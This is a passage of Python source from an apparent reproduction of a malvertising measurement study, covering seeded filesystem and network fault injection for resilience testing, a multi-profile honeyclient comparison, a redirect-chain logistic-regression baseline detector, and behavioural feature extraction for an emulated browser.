  :data:`~repro.chaos.plan.FS_FAULT_KINDS`:

  - ``torn_write``     — only a prefix of the payload reaches the file,
    then the write raises (what a crash mid-``write(2)`` leaves behind);
  - ``partial_fsync``  — fsync *returns success* but only half of the
    unflushed tail is actually made durable; a later
    :meth:`ChaosFileSystem.simulate_crash` exposes the lie;
  - ``enospc``         — the write is refused with ``ENOSPC`` and no
    bytes land;
  - ``corrupt_read``   — bytes read back are XOR-garbled (at-rest rot).

Every decision is pure in ``(plan seed, "fs:<op>", path tail, counter)``
— the path's last two components address the fault, so the same seed
breaks the same operations in the same way on every run, no matter
which temp directory the store lives in
— which is what lets the store's recovery tests assert exact
truncation/quarantine counts.

Crash simulation is the layer's second job: the wrapper tracks each
file's *durable length* (advanced by honest fsyncs, half-advanced by
``partial_fsync`` ones) and :meth:`~ChaosFileSystem.simulate_crash`
truncates every tracked file back to it — producing exactly the torn
tails a power cut would.
"""

from __future__ import annotations

import errno
import os
import threading
from pathlib import Path
from typing import Optional, Union

from repro.chaos.faults import ChaosStats, InjectedFault
from repro.chaos.plan import FS_FAULT_KINDS, FaultPlan

PathLike = Union[str, Path]


class LocalFileSystem:
    """The real-I/O seam the verdict store writes through.

    Deliberately tiny: just the operations the store needs, so a chaos
    wrapper (or a future remote/object-store backend) can interpose on
    all of them.  ``append`` returns the file length *before* the write,
    i.e. the offset the payload landed at.
    """

    def append(self, path: PathLike, data: bytes) -> int:
        """Append ``data``; returns the offset it was written at."""
        with open(path, "ab") as handle:
            offset = handle.tell()
            handle.write(data)
        return offset

    def fsync(self, path: PathLike) -> None:
        """Flush ``path``'s content to stable storage."""
        fd = os.open(path, os.O_RDONLY)
        try:
            os.fsync(fd)
        finally:
            os.close(fd)

    def read_at(self, path: PathLike, offset: int, length: int) -> bytes:
        with open(path, "rb") as handle:
            handle.seek(offset)
            return handle.read(length)

    def read_bytes(self, path: PathLike) -> bytes:
        return Path(path).read_bytes()

    def write_bytes(self, path: PathLike, data: bytes) -> None:
        """Whole-file write (compaction tmp files); not crash-atomic."""
        Path(path).write_bytes(data)

    def size(self, path: PathLike) -> int:
        return os.path.getsize(path)

    def exists(self, path: PathLike) -> bool:
        return os.path.exists(path)

    def listdir(self, path: PathLike) -> list[str]:
        return sorted(os.listdir(path))

    def mkdir(self, path: PathLike) -> None:
        os.makedirs(path, exist_ok=True)

    def replace(self, src: PathLike, dst: PathLike) -> None:
        """Atomic rename (the write-then-rename commit point)."""
        os.replace(src, dst)

    def remove(self, path: PathLike) -> None:
        os.remove(path)

    def truncate(self, path: PathLike, length: int) -> None:
        with open(path, "r+b") as handle:
            handle.truncate(length)


class ChaosFileSystem(LocalFileSystem):
    """A :class:`LocalFileSystem` that injects planned disk faults.

    Fault decisions reuse the transport layer's addressing scheme:
    ``scope`` is ``"fs:<operation>"``, ``url`` is the path, ``repeat``
    is a per-(operation, path) counter.  Only
    :data:`~repro.chaos.plan.FS_FAULT_KINDS` fire here — a plan shared
    with the network wrappers injects disjoint fault sets at each layer.
    """

    def __init__(self, plan: FaultPlan,
                 stats: Optional[ChaosStats] = None) -> None:
        self.plan = plan
        self.stats = stats if stats is not None else ChaosStats()
        self._lock = threading.Lock()
        self._op_counts: dict[tuple[str, str], int] = {}
        #: Per-file length known to be on stable storage (advanced by
        #: fsync; partial_fsync advances it only halfway through the
        #: unflushed tail).  Files never fsynced are durable at 0 bytes.
        self._durable: dict[str, int] = {}
        self.crashes_simulated = 0

    # -- fault addressing ----------------------------------------------------

    def _decide(self, op: str, path: PathLike):
        # Address faults by the path's last two components (e.g.
        # ``shard-00/seg-000001.open``) so a plan seed picks the same
        # victims regardless of which temp directory the store lives in
        # — the property that makes crash tests replayable run to run.
        key = "/".join(Path(path).parts[-2:])
        with self._lock:
            repeat = self._op_counts.get((op, key), 0)
            self._op_counts[(op, key)] = repeat + 1
        fault = self.plan.decide(f"fs:{op}", key, repeat, attempt=0)
        if fault is None or fault.kind not in FS_FAULT_KINDS:
            return None
        with self._lock:
            self.stats.record(
                InjectedFault(f"fs:{op}", key, repeat, 0, fault.kind))
        return fault

    # -- intercepted operations ----------------------------------------------

    def append(self, path: PathLike, data: bytes) -> int:
        fault = self._decide("append", path)
        if fault is not None and fault.kind == "enospc":
            raise OSError(errno.ENOSPC, "chaos: no space left on device",
                          str(path))
        if fault is not None and fault.kind == "torn_write":
            # Half the payload lands, then the writer dies mid-write.
            offset = super().append(path, data[: len(data) // 2])
            self._note_preexisting(path, offset)
            raise OSError(errno.EIO,
                          "chaos: torn write (prefix persisted)", str(path))
        offset = super().append(path, data)
        self._note_preexisting(path, offset)
        return offset

    def write_bytes(self, path: PathLike, data: bytes) -> None:
        super().write_bytes(path, data)
        with self._lock:
            # A fresh whole-file write is all page cache until fsynced.
            self._durable[str(path)] = 0

    def _note_preexisting(self, path: PathLike, offset: int) -> None:
        """First contact with a file: bytes that predate this wrapper
        (offset at first append) are assumed already durable; bytes we
        append are not, until an honest fsync says so."""
        with self._lock:
            self._durable.setdefault(str(path), offset)

    def fsync(self, path: PathLike) -> None:
        fault = self._decide("fsync", path)
        key = str(path)
        size = self.size(path) if self.exists(path) else 0
        with self._lock:
            durable = self._durable.get(key, 0)
            if fault is not None and fault.kind == "partial_fsync":
                # The syscall "succeeds" but only half the tail is
                # actually stable — the lie simulate_crash() exposes.
                self._durable[key] = durable + (size - durable) // 2
                return
            self._durable[key] = size
        super().fsync(path)

    def read_at(self, path: PathLike, offset: int, length: int) -> bytes:
        data = super().read_at(path, offset, length)
        return self._maybe_corrupt("read_at", path, data)

    def read_bytes(self, path: PathLike) -> bytes:
        data = super().read_bytes(path)
        return self._maybe_corrupt("read_bytes", path, data)

    def _maybe_corrupt(self, op: str, path: PathLike, data: bytes) -> bytes:
        fault = self._decide(op, path)
        if fault is None or fault.kind != "corrupt_read" or not data:
            return data
        # Garble a deterministic slice in the middle of the payload.
        start = len(data) // 3
        end = min(len(data), start + 64)
        garbled = bytes(b ^ 0x2A for b in data[start:end])
        return data[:start] + garbled + data[end:]

    def replace(self, src: PathLike, dst: PathLike) -> None:
        super().replace(src, dst)
        with self._lock:
            # The rename carries the source's durability to the target.
            self._durable[str(dst)] = self._durable.pop(
                str(src), self.size(dst))

    def remove(self, path: PathLike) -> None:
        super().remove(path)
        with self._lock:
            self._durable.pop(str(path), None)

    # -- the power cut -------------------------------------------------------

    def at_risk(self) -> dict[str, int]:
        """Bytes each tracked file would lose if the power died *now*.

        Empty while every fsync has been honest; a ``partial_fsync``
        fault shows up here immediately (page cache holds bytes the disk
        never got).  Crash tests use this to detect the exact moment a
        lie happened and kill the writer there.
        """
        with self._lock:
            durable = dict(self._durable)
        exposed: dict[str, int] = {}
        for key, stable_length in durable.items():
            if not os.path.exists(key):
                continue
            size = os.path.getsize(key)
            if size > stable_length:
                exposed[key] = size - stable_length
        return exposed

    def simulate_crash(self) -> dict[str, int]:
        """Truncate every tracked file to its durable length.

        This is the moment a power cut (or ``kill -9`` racing the page
        cache) becomes visible: bytes appended since the last honest
        fsync vanish, and a ``partial_fsync`` fault's half-synced tail is
        cut mid-record — exactly the torn tail recovery must handle.
        Returns ``{path: bytes_lost}`` for every file that lost data.
        """
        lost: dict[str, int] = {}
        with self._lock:
            durable = dict(self._durable)
            self.crashes_simulated += 1
        for key, stable_length in durable.items():
            if not os.path.exists(key):
                continue
            size = os.path.getsize(key)
            if size > stable_length:
                super().truncate(key, stable_length)
                lost[key] = size - stable_length
        return lost
