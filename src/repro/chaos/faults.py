"""Fault-injecting wrappers for the simulated transport layer.

:class:`ChaosHttpClient` and :class:`ChaosDnsResolver` sit in front of the
real :class:`~repro.web.http.HttpClient` / :class:`~repro.web.dns.DnsResolver`
and consult a :class:`~repro.chaos.plan.FaultPlan` on every request.  The
wrappers are transparent proxies — everything they do not intercept
delegates to the wrapped object — so the browser, HAR capture and cookie
machinery work unchanged on top of them.

The crawl retry loop drives the attempt protocol: before each attempt it
calls :meth:`ChaosHttpClient.begin_attempt` with a scope naming the unit
of work and the retry counter, which resets per-URL repeat numbering.
Fault decisions are then pure in ``(plan, scope, url, repeat, attempt)``
— identical at any worker count and across resumed runs.  Between
``begin_attempt`` calls the wrapper injects nothing extra; the plan alone
decides.

Injected faults split into *corrupting* (the observed content differs
from the fault-free world: connection/timeout/NXDOMAIN/5xx/truncation/
garbling) and *benign* (``slow`` — latency is simulated and accounted,
content is untouched).  The crawler only retries attempts that saw a
corrupting fault.
"""

from __future__ import annotations

import threading
from dataclasses import dataclass, field
from typing import Any, Optional

from repro.chaos.plan import BENIGN_KINDS, FAULT_KINDS, Fault, FaultPlan
from repro.web.dns import NxDomainError
from repro.web.http import (
    ConnectionFailed,
    Exchange,
    HttpRequest,
    HttpResponse,
    RequestTimeout,
)
from repro.web.url import UrlError, parse_url


@dataclass
class InjectedFault:
    """One fault the wrapper actually fired (the replayable chaos log)."""

    scope: str
    url: str
    repeat: int
    attempt: int
    kind: str


@dataclass
class ChaosStats:
    """What one chaos wrapper injected, by kind; merge-safe sums."""

    by_kind: dict[str, int] = field(default_factory=dict)
    injected_total: int = 0
    corrupting_total: int = 0
    slow_seconds: float = 0.0
    log: list[InjectedFault] = field(default_factory=list)

    def record(self, fault: InjectedFault, delay: float = 0.0) -> None:
        self.by_kind[fault.kind] = self.by_kind.get(fault.kind, 0) + 1
        self.injected_total += 1
        if fault.kind in BENIGN_KINDS:
            self.slow_seconds += delay
        else:
            self.corrupting_total += 1
        self.log.append(fault)

    def merge(self, other: "ChaosStats") -> None:
        for kind, count in other.by_kind.items():
            self.by_kind[kind] = self.by_kind.get(kind, 0) + count
        self.injected_total += other.injected_total
        self.corrupting_total += other.corrupting_total
        self.slow_seconds += other.slow_seconds
        self.log.extend(other.log)


class ChaosHttpClient:
    """An :class:`~repro.web.http.HttpClient` proxy that injects faults.

    Only :meth:`fetch` is intercepted; every other attribute (``mount``,
    ``add_observer``, ``cookie_jar``, ``resolver`` …) passes through to
    the wrapped client.
    """

    def __init__(self, inner: Any, plan: FaultPlan,
                 stats: Optional[ChaosStats] = None) -> None:
        self._inner = inner
        self.plan = plan
        self.stats = stats if stats is not None else ChaosStats()
        self._lock = threading.Lock()
        self._scope = ""
        self._attempt = 0
        self._repeats: dict[str, int] = {}
        #: Monotonic count of corrupting faults; the crawl retry loop
        #: snapshots it around an attempt to detect a dirty page load.
        self.corrupting_faults = 0

    # -- attempt protocol ----------------------------------------------------

    def begin_attempt(self, scope: str, attempt: int) -> None:
        """Open a new attempt scope; resets per-URL repeat numbering."""
        with self._lock:
            self._scope = scope
            self._attempt = attempt
            self._repeats = {}

    # -- the intercepted call ------------------------------------------------

    def fetch(self, url: Any, **kwargs: Any):
        key = str(url)
        with self._lock:
            repeat = self._repeats.get(key, 0)
            self._repeats[key] = repeat + 1
            scope, attempt = self._scope, self._attempt
        fault = self.plan.decide(scope, key, repeat, attempt)
        if fault is None or fault.kind not in FAULT_KINDS:
            # Filesystem kinds (a plan shared with a ChaosFileSystem)
            # mean nothing at the transport layer; pass through clean.
            return self._inner.fetch(url, **kwargs)
        self._record(InjectedFault(scope, key, repeat, attempt, fault.kind),
                     fault)
        return self._inject(url, key, fault, kwargs)

    def _record(self, entry: InjectedFault, fault: Fault) -> None:
        with self._lock:
            self.stats.record(entry, delay=fault.delay)
            if fault.kind not in BENIGN_KINDS:
                self.corrupting_faults += 1

    def _inject(self, url: Any, key: str, fault: Fault, kwargs: dict):
        if fault.kind == "slow":
            # Latency is simulated (accounted in stats), content untouched.
            return self._inner.fetch(url, **kwargs)
        if fault.kind == "connection":
            raise ConnectionFailed(f"chaos: injected connection failure ({key})")
        if fault.kind == "timeout":
            raise RequestTimeout(f"chaos: injected timeout ({key})")
        if fault.kind == "nxdomain":
            raise NxDomainError(self._host_of(key))
        if fault.kind == "http_503":
            parsed = self._parse(url)
            response = HttpResponse(503, {"x-chaos": "http_503"},
                                    b"chaos: service unavailable", url=parsed)
            request = HttpRequest(parsed) if parsed is not None else None
            chain = [Exchange(request, response)] if request is not None else []
            return response, chain
        # truncate / garble: real fetch, then corrupt a copy of the body.
        response, chain = self._inner.fetch(url, **kwargs)
        body = response.body
        if fault.kind == "truncate":
            body = body[: len(body) // 2]
        else:  # garble
            prefix = bytes(b ^ 0x2A for b in body[:256])
            body = prefix + body[256:]
        corrupted = HttpResponse(response.status, dict(response.headers),
                                 body, url=response.url)
        return corrupted, chain

    @staticmethod
    def _parse(url: Any):
        try:
            return parse_url(url) if isinstance(url, str) else url
        except UrlError:
            return None

    @classmethod
    def _host_of(cls, key: str) -> str:
        parsed = cls._parse(key)
        return parsed.host if parsed is not None else key

    # -- transparent proxy ---------------------------------------------------

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)


class ChaosDnsResolver:
    """A :class:`~repro.web.dns.DnsResolver` proxy with flapping NXDOMAIN.

    Each name's resolution count plays the ``attempt`` role, so a plan
    with sticky ``nxdomain`` faults makes a name fail its first k lookups
    and then recover — the mid-study takedown-and-return pattern.  Only
    ``nxdomain`` faults apply at this layer; other kinds are ignored.
    """

    SCOPE = "dns"

    def __init__(self, inner: Any, plan: FaultPlan,
                 stats: Optional[ChaosStats] = None) -> None:
        self._inner = inner
        self.plan = plan
        self.stats = stats if stats is not None else ChaosStats()
        self._lock = threading.Lock()
        self._lookups: dict[str, int] = {}

    def resolve(self, name: str):
        key = name.lower().rstrip(".")
        with self._lock:
            lookup = self._lookups.get(key, 0)
            self._lookups[key] = lookup + 1
        fault = self.plan.decide(self.SCOPE, key, 0, lookup)
        if fault is not None and fault.kind == "nxdomain":
            with self._lock:
                self.stats.record(
                    InjectedFault(self.SCOPE, key, 0, lookup, fault.kind))
            raise NxDomainError(key)
        return self._inner.resolve(name)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._inner, name)
