"""Deterministic chaos: seeded fault injection for the crawl/scan pipeline.

The paper's measurement infrastructure survived three months of a
decaying, adversarial web.  This package makes that hostility a
first-class, *replayable* test input: a :class:`FaultPlan` derives every
fault decision from a seed by hashing, so the same seed produces the
bit-identical fault sequence at any worker count, and the recovery
machinery (crawler retries, checkpoints, worker supervision, the scan
service's circuit breakers) can be regression-tested differentially
against the fault-free run.
"""

from repro.chaos.faults import (
    ChaosDnsResolver,
    ChaosHttpClient,
    ChaosStats,
    InjectedFault,
)
from repro.chaos.fs import ChaosFileSystem, LocalFileSystem
from repro.chaos.plan import (
    ALL_FAULT_KINDS,
    BENIGN_KINDS,
    FAULT_KINDS,
    FS_FAULT_KINDS,
    PROFILES,
    Fault,
    FaultPlan,
    FaultRule,
)

__all__ = [
    "ALL_FAULT_KINDS",
    "BENIGN_KINDS",
    "ChaosDnsResolver",
    "ChaosFileSystem",
    "ChaosHttpClient",
    "ChaosStats",
    "FAULT_KINDS",
    "FS_FAULT_KINDS",
    "Fault",
    "FaultPlan",
    "FaultRule",
    "InjectedFault",
    "LocalFileSystem",
    "PROFILES",
]
