"""The oracle components (§3.2 of the paper).

Three independent detectors feed the combined oracle in :mod:`repro.core`:

* :mod:`repro.oracles.wepawet` — a honeyclient that executes an ad's
  content in the emulated browser with deliberately vulnerable plugins and
  extracts behavioural signals (redirect heuristics, exploit activity, an
  anomaly model over behavioural features).
* :mod:`repro.oracles.blacklists` — 49 domain blacklists aggregated with
  the paper's ">5 lists" threshold.
* :mod:`repro.oracles.virustotal` — 51 simulated AV engines scanning every
  downloaded executable/Flash file.
"""

from repro.oracles.blacklists import BlacklistTracker
from repro.oracles.features import BehaviourFeatures, extract_features
from repro.oracles.model import AnomalyModel, pretrained_driveby_model
from repro.oracles.virustotal import VirusTotal, VTReport
from repro.oracles.wepawet import Wepawet, WepawetReport

__all__ = [
    "AnomalyModel",
    "BehaviourFeatures",
    "BlacklistTracker",
    "VTReport",
    "VirusTotal",
    "Wepawet",
    "WepawetReport",
    "extract_features",
    "pretrained_driveby_model",
]
