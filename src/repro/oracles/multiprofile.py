"""Multi-profile honeyclient analysis.

A single analysis run sees one environment; environment-sensitive
malvertising behaves differently per visitor (serve the exploit to the
vulnerable, a clean banner to everyone else).  Honeyclients of the
Wepawet era therefore re-analysed suspicious samples under *several*
browser profiles and diffed the behaviour: divergence itself is a signal.

:func:`analyze_across_profiles` runs a sample under a set of plugin
profiles (optionally with analysis tells exposed, the SCARECROW switch)
and reports the behavioural deltas.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Sequence

from repro.browser.plugins import PluginProfile, patched_profile, vulnerable_profile
from repro.oracles.features import BehaviourFeatures
from repro.oracles.wepawet import Wepawet, WepawetReport

# Features whose divergence across profiles indicates targeting, not noise.
_DIVERGENCE_FEATURES = (
    "exploit_attempts",
    "exploit_successes",
    "executable_downloads",
    "flash_downloads",
    "eval_calls",
    "plugin_probes",
)


@dataclass
class ProfileRun:
    """One profile's analysis outcome."""

    label: str
    report: WepawetReport


@dataclass
class MultiProfileReport:
    """The cross-profile diff for one advertisement."""

    runs: list[ProfileRun] = field(default_factory=list)

    def run_by_label(self, label: str) -> Optional[ProfileRun]:
        for run in self.runs:
            if run.label == label:
                return run
        return None

    @property
    def environment_sensitive(self) -> bool:
        """Did any profile observe attack behaviour that another did not?"""
        return bool(self.divergent_features())

    def divergent_features(self) -> list[str]:
        """Names of attack-relevant features that differ across profiles."""
        divergent = []
        for name in _DIVERGENCE_FEATURES:
            values = {getattr(run.report.features, name) for run in self.runs}
            if len(values) > 1:
                divergent.append(name)
        return divergent

    @property
    def any_flagged(self) -> bool:
        return any(run.report.flagged for run in self.runs)

    def render(self) -> str:
        lines = ["multi-profile analysis:"]
        for run in self.runs:
            f = run.report.features
            lines.append(
                f"  {run.label:<22} exploit={int(f.exploit_successes)} "
                f"exe_dl={int(f.executable_downloads)} "
                f"probes={int(f.plugin_probes)} flagged={run.report.flagged}"
            )
        lines.append(f"  environment sensitive: {self.environment_sensitive} "
                     f"({', '.join(self.divergent_features()) or 'no divergence'})")
        return "\n".join(lines)


def default_profile_matrix() -> list[tuple[str, PluginProfile, bool]]:
    """(label, plugin profile, expose analysis tells) triples to test."""
    return [
        ("vulnerable", vulnerable_profile(), False),
        ("patched", patched_profile(), False),
        ("vulnerable+tells", vulnerable_profile(), True),
    ]


def analyze_across_profiles(
    base: Wepawet,
    html: str,
    matrix: Optional[Sequence[tuple[str, PluginProfile, bool]]] = None,
) -> MultiProfileReport:
    """Analyse ``html`` once per profile in ``matrix``.

    ``base`` supplies the simulated-web client and the anomaly model; a
    fresh honeyclient browser is configured per profile so runs do not
    contaminate each other.
    """
    matrix = list(matrix) if matrix is not None else default_profile_matrix()
    report = MultiProfileReport()
    for label, profile, tells in matrix:
        wepawet = Wepawet(base.client, base.resolver, model=base.model)
        wepawet.browser.plugin_profile = profile
        wepawet.browser.exposes_analysis_tells = tells
        report.runs.append(ProfileRun(label, wepawet.analyze_html(html)))
    return report
