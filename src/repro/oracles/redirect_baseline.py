"""A redirection-properties baseline detector ("Shady Paths"-style).

The paper builds on a line of prior work that detects malicious web pages
purely from the *properties of their HTTP redirection chains* (Stringhini
et al. CCS'13 "Shady Paths", Mekky et al. INFOCOM'14, and the MADTRACER
ad-path work by Li et al.).  This module implements that family as a
baseline the full oracle can be compared against: a logistic scorer over
chain-level features — no content execution, no blacklists, no AV.

It is deliberately weaker than the combined oracle: it sees only the
traffic shape, so content-identified threats (blacklisted-but-short-chain
scams, deceptive downloads) are largely invisible to it, and benign deep
remnant chains cost it false positives.  That gap — measured in
``benchmarks/test_baseline_comparison.py`` — is the paper's argument for a
multi-component oracle.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, fields
from typing import Optional, Sequence

from repro.crawler.corpus import AdRecord
from repro.web.url import UrlError, etld_plus_one, parse_url


@dataclass
class ChainFeatures:
    """Features of one advertisement's redirection behaviour."""

    max_chain_length: float = 0.0
    mean_chain_length: float = 0.0
    n_distinct_domains: float = 0.0
    cross_domain_ratio: float = 0.0   # hops that switch registered domains
    repeat_domain_ratio: float = 0.0  # hops revisiting an earlier domain
    rare_tld_ratio: float = 0.0       # .biz/.info/.ws/.cc style hop domains

    def to_vector(self) -> list[float]:
        return [getattr(self, f.name) for f in fields(self)]

    @classmethod
    def names(cls) -> list[str]:
        return [f.name for f in fields(cls)]


RARE_TLDS = frozenset({"biz", "info", "ws", "cc", "tv", "me"})


def extract_chain_features(chain: Sequence[str]) -> ChainFeatures:
    """Compute redirection features of ONE observed chain.

    Deployed chain detectors judge the redirect sequence in front of them,
    one page load at a time — they do not get to aggregate hundreds of
    sightings of the same creative the way an offline corpus would.
    """
    features = ChainFeatures()
    domains: set[str] = set()
    cross = repeats = hops = rare = 0
    previous: Optional[str] = None
    for domain in chain:
        hops += 1
        if domain in domains:
            repeats += 1
        domains.add(domain)
        if previous is not None and domain != previous:
            cross += 1
        previous = domain
        if domain.rsplit(".", 1)[-1] in RARE_TLDS:
            rare += 1
    features.max_chain_length = float(hops)
    features.mean_chain_length = float(hops)
    features.n_distinct_domains = float(len(domains))
    if hops:
        features.cross_domain_ratio = cross / hops
        features.repeat_domain_ratio = repeats / hops
        features.rare_tld_ratio = rare / hops
    return features


class RedirectChainBaseline:
    """Logistic-regression scorer over chain features, trained with SGD.

    Implemented from scratch (we have no sklearn): plain logistic loss,
    mean/std feature standardisation, deterministic epoch ordering.
    """

    def __init__(self, threshold: Optional[float] = None, learning_rate: float = 0.1,
                 epochs: int = 60) -> None:
        # threshold=None means: calibrate to the F1-optimal operating point
        # on the training scores (the standard way such detectors are tuned).
        self.threshold = 0.5 if threshold is None else threshold
        self._auto_threshold = threshold is None
        self.learning_rate = learning_rate
        self.epochs = epochs
        self._weights: list[float] = []
        self._bias = 0.0
        self._means: list[float] = []
        self._stds: list[float] = []

    # -- training -------------------------------------------------------------

    def fit(self, vectors: Sequence[Sequence[float]], labels: Sequence[bool]) -> "RedirectChainBaseline":
        if not vectors or len(vectors) != len(labels):
            raise ValueError("need one label per feature vector")
        n_features = len(vectors[0])
        self._fit_scaler(vectors)
        rows = [self._standardize(v) for v in vectors]
        self._weights = [0.0] * n_features
        self._bias = 0.0
        n_pos = sum(labels)
        n_neg = len(labels) - n_pos
        if n_pos == 0 or n_neg == 0:
            raise ValueError("training data must contain both classes")
        # Class weights balance the heavy benign majority.
        pos_weight = len(labels) / (2.0 * n_pos)
        neg_weight = len(labels) / (2.0 * n_neg)
        for _ in range(self.epochs):
            for row, label in zip(rows, labels):
                prediction = self._sigmoid(self._raw_score(row))
                error = (1.0 if label else 0.0) - prediction
                weight = pos_weight if label else neg_weight
                step = self.learning_rate * error * weight
                for j, value in enumerate(row):
                    self._weights[j] += step * value
                self._bias += step
        if self._auto_threshold:
            self._calibrate_threshold(rows, labels)
        return self

    def _calibrate_threshold(self, rows: Sequence[Sequence[float]],
                             labels: Sequence[bool]) -> None:
        """Pick the score cut-off that maximises F1 on the training data."""
        scored = sorted(
            (self._sigmoid(self._raw_score(row)), bool(label))
            for row, label in zip(rows, labels)
        )
        total_pos = sum(labels)
        if total_pos == 0:
            return
        best_f1 = -1.0
        best_threshold = 0.5
        tp = total_pos
        fp = len(labels) - total_pos
        previous_score = 0.0
        for score, label in scored:
            threshold = (previous_score + score) / 2.0
            precision = tp / (tp + fp) if (tp + fp) else 0.0
            recall = tp / total_pos
            if precision + recall > 0:
                f1 = 2 * precision * recall / (precision + recall)
                if f1 > best_f1:
                    best_f1 = f1
                    best_threshold = threshold
            if label:
                tp -= 1
            else:
                fp -= 1
            previous_score = score
        self.threshold = best_threshold

    def fit_records(self, records: Sequence[AdRecord], labels: Sequence[bool]) -> "RedirectChainBaseline":
        """Fit on every impression's chain, labelled by its ad's verdict."""
        vectors: list[list[float]] = []
        flat_labels: list[bool] = []
        for record, label in zip(records, labels):
            for impression in record.impressions:
                vectors.append(
                    extract_chain_features(impression.chain_domains).to_vector())
                flat_labels.append(label)
        return self.fit(vectors, flat_labels)

    def _fit_scaler(self, vectors: Sequence[Sequence[float]]) -> None:
        n = len(vectors)
        dims = len(vectors[0])
        self._means = [sum(v[j] for v in vectors) / n for j in range(dims)]
        self._stds = []
        for j in range(dims):
            variance = sum((v[j] - self._means[j]) ** 2 for v in vectors) / n
            self._stds.append(math.sqrt(variance) or 1.0)

    def _standardize(self, vector: Sequence[float]) -> list[float]:
        return [(value - mean) / std
                for value, mean, std in zip(vector, self._means, self._stds)]

    # -- inference --------------------------------------------------------------

    @staticmethod
    def _sigmoid(x: float) -> float:
        if x >= 0:
            return 1.0 / (1.0 + math.exp(-x))
        e = math.exp(x)
        return e / (1.0 + e)

    def _raw_score(self, standardized: Sequence[float]) -> float:
        return sum(w * v for w, v in zip(self._weights, standardized)) + self._bias

    def score_chain(self, chain: Sequence[str]) -> float:
        """Probability-like maliciousness score for one observed chain."""
        if not self._weights:
            raise RuntimeError("baseline is not fitted")
        vector = self._standardize(extract_chain_features(chain).to_vector())
        return self._sigmoid(self._raw_score(vector))

    def predict_chain(self, chain: Sequence[str]) -> bool:
        return self.score_chain(chain) > self.threshold

    def predict(self, record: AdRecord) -> bool:
        """Record-level convenience: would any observed load have alarmed?

        Mirrors how a browser-side detector protects a user population —
        each impression is one judgement.
        """
        return any(self.predict_chain(i.chain_domains) for i in record.impressions)


@dataclass
class BaselineComparison:
    """Head-to-head numbers (impression level): chain baseline vs oracle."""

    baseline_tp: int
    baseline_fp: int
    baseline_fn: int
    oracle_incidents: int
    n_records: int

    @property
    def baseline_recall(self) -> float:
        denom = self.baseline_tp + self.baseline_fn
        return self.baseline_tp / denom if denom else 0.0

    @property
    def baseline_precision(self) -> float:
        denom = self.baseline_tp + self.baseline_fp
        return self.baseline_tp / denom if denom else 0.0

    def render(self) -> str:
        return (f"chain-only baseline (per impression): recall "
                f"{self.baseline_recall:.1%}, precision "
                f"{self.baseline_precision:.1%} against the "
                f"{self.oracle_incidents} oracle-confirmed incidents "
                f"({self.n_records} impressions)")


def compare_to_oracle(results, baseline: RedirectChainBaseline) -> BaselineComparison:
    """Score the fitted baseline, impression by impression, against the
    combined oracle's per-ad verdicts."""
    tp = fp = fn = 0
    oracle_incidents = 0
    n = 0
    for record, verdict in results.iter_with_verdicts():
        oracle_says = verdict.is_malicious
        oracle_incidents += oracle_says
        for impression in record.impressions:
            n += 1
            baseline_says = baseline.predict_chain(impression.chain_domains)
            if baseline_says and oracle_says:
                tp += 1
            elif baseline_says:
                fp += 1
            elif oracle_says:
                fn += 1
    return BaselineComparison(tp, fp, fn, oracle_incidents, n)
