"""Behavioural feature extraction.

Wepawet's anomaly models work on features of the observed execution, not
on source text (which malvertising obfuscates).  The vector here captures
the signals its models used: dynamic code generation, environment
fingerprinting, hidden plugin content, navigation hijacking, and network
side effects.
"""

from __future__ import annotations

from dataclasses import dataclass, fields

from repro.browser import events as ev
from repro.browser.browser import PageLoad


@dataclass
class BehaviourFeatures:
    """Numeric behavioural features of one analysed advertisement."""

    eval_calls: float = 0.0
    eval_source_chars: float = 0.0
    plugin_probes: float = 0.0
    document_writes: float = 0.0
    timers_set: float = 0.0
    popups: float = 0.0
    dialogs: float = 0.0
    redirect_hops: float = 0.0
    nx_redirects: float = 0.0
    cross_frame_top_navigations: float = 0.0
    self_navigations: float = 0.0
    exploit_attempts: float = 0.0
    exploit_successes: float = 0.0
    executable_downloads: float = 0.0
    flash_downloads: float = 0.0
    hidden_plugin_objects: float = 0.0
    script_errors: float = 0.0
    distinct_domains: float = 0.0

    def to_vector(self) -> list[float]:
        return [getattr(self, f.name) for f in fields(self)]

    @classmethod
    def names(cls) -> list[str]:
        return [f.name for f in fields(cls)]


def extract_features(load: PageLoad) -> BehaviourFeatures:
    """Build the feature vector from a honeyclient page load."""
    features = BehaviourFeatures()
    events = load.events
    features.eval_calls = float(events.count(ev.EVAL_CALL))
    features.eval_source_chars = float(
        sum(e.data.get("length", 0) for e in events.of_kind(ev.EVAL_CALL))
    )
    features.plugin_probes = float(events.count(ev.PLUGIN_PROBE))
    features.document_writes = float(events.count(ev.DOCUMENT_WRITE))
    features.timers_set = float(events.count(ev.TIMER_SET))
    features.popups = float(events.count(ev.POPUP))
    features.dialogs = float(events.count(ev.DIALOG))
    features.redirect_hops = float(events.count(ev.REDIRECT))
    features.nx_redirects = float(events.count(ev.NX_REDIRECT))
    features.cross_frame_top_navigations = float(
        sum(1 for e in events.of_kind(ev.TOP_NAVIGATION) if e.data.get("cross_frame"))
    )
    features.self_navigations = float(events.count(ev.NAVIGATION))
    features.exploit_attempts = float(events.count(ev.EXPLOIT_ATTEMPT))
    features.exploit_successes = float(events.count(ev.EXPLOIT_SUCCESS))
    features.executable_downloads = float(len(load.downloads.executables()))
    features.flash_downloads = float(len(load.downloads.flash_files()))
    features.hidden_plugin_objects = float(_count_hidden_plugin_objects(load))
    features.script_errors = float(events.count(ev.SCRIPT_ERROR))
    features.distinct_domains = float(len(load.har.registered_domains()))
    return features


def _count_hidden_plugin_objects(load: PageLoad) -> int:
    """1×1 (or zero-sized) embeds/objects: plugin content the user cannot see."""
    if load.page is None:
        return 0
    count = 0
    for frame in load.page.all_frames():
        for element in frame.document.iter():
            if element.tag not in ("embed", "object"):
                continue
            try:
                width = int(element.get("width") or "100")
                height = int(element.get("height") or "100")
            except ValueError:
                continue
            if width <= 1 or height <= 1:
                count += 1
    return count
