"""The Wepawet-style honeyclient (§3.2.1).

Ad iframes collected by the crawler are submitted as HTML documents; the
honeyclient hosts each submission on an internal sandbox origin, renders it
in the emulated browser with a deliberately vulnerable plugin profile,
clicks the links a curious user would click, and distils the observed
behaviour into:

* **suspicious-redirection signals** — redirect chains dying on NX domains,
  bounces to benign search engines (cloaking), cross-frame ``top.location``
  hijacks;
* **drive-by heuristics** — exploit attempts/successes against installed
  plugins, silent executable drops;
